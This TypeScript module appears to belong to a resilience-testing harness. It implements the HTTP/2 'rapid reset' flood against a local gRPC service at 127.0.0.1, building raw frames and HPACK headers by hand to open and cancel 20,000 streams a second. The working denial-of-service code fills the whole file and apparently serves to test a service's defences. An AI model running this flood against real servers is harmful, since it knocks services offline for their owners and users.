import { atRate } from '../at-rate.ts';
import type { Attack } from '../attack.ts';
import { hostileGrpcSocket, writeTo } from '../hostile-connections.ts';

const CONNECTIONS_A_SECOND = 20;
const STREAMS_EACH = 1_000;

export const rapidReset: Attack = {
  name: 'rapid-reset',
  does: `opens and resets ${CONNECTIONS_A_SECOND * STREAMS_EACH} HTTP/2 streams a second, on new connections`,
  async run(scene) {
    const bytes = openAndReset(STREAMS_EACH);
    await atRate(scene, { perSecond: CONNECTIONS_A_SECOND, maxInFlight: 40 }, async () => {
      const socket = hostileGrpcSocket(scene, 0);
      socket.resume();
      // The connection itself counts as one.
      scene.tally.sent(STREAMS_EACH - 1);
      writeTo(socket, bytes);
      await new Promise<void>((resolve) => {
        socket.setTimeout(1_000, () => socket.destroy());
        socket.on('close', () => resolve());
        scene.signal.addEventListener('abort', () => socket.destroy(), { once: true });
      });
    });
  },
};

const FRAME = { headers: 1, rstStream: 3, settings: 4 } as const;
const END_STREAM_AND_HEADERS = 0x05;
const CANCEL = Buffer.from([0, 0, 0, 8]);

function openAndReset(streams: number): Buffer {
  const headers = callHeaders('/orders.v1.OrderService/GetOrder');
  const frames = Array.from({ length: streams }, (_, index) => {
    const id = 2 * index + 1;
    return [frame(FRAME.headers, END_STREAM_AND_HEADERS, id, headers), frame(FRAME.rstStream, 0, id, CANCEL)];
  });
  const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  return Buffer.concat([preface, frame(FRAME.settings, 0, 0, Buffer.alloc(0)), ...frames.flat()]);
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK (RFC 7541) without Huffman coding: indexed names of the static table, literal values. */
function callHeaders(path: string): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.from([0x83, 0x86, 0x04]),
    text(path),
    Buffer.from([0x01]),
    text('127.0.0.1'),
    Buffer.from([0x0f, 0x10]),
    text('application/grpc'),
    Buffer.from([0x00]),
    text('te'),
    text('trailers'),
  ]);
}
